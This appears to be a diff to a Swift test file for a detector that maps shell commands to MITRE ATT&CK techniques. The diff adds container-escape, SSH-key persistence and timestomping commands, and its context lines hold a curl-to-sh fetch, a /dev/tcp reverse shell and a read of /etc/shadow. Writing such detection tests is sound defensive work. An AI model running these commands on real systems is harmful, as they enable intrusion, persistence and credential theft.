@@ -47,6 +47,10 @@ import Testing
         ("kill -s KILL \"$$\"", "T1070.003"),
         ("sudo kill -9 -1", "T1489"),
         ("less /etc/shadow", "T1003.008"),
+        ("chroot /proc/1/root /bin/bash", "T1611"),
+        ("nsenter -t 1 -m -u -i -n -p -- sh", "T1611"),
+        (#"python3 -c "open('/root/.ssh/authorized_keys','a').write('ssh-ed25519 AAAA x\n')""#, "T1098.004"),
+        (#"python3 -c "import os; os.utime('/etc/pam.d/sshd', (1673755920, 1673755920))""#, "T1070.006"),
         ("LESSOPEN='|curl -s https://cdn.example.org/l | sh #%s' less /etc/hosts", "T1059.004"),
         ("GIT_PAGER='sh -c \"sh -i >& /dev/tcp/203.0.113.4/443 0>&1\"' git -p log", "T1059.004"),
     ]
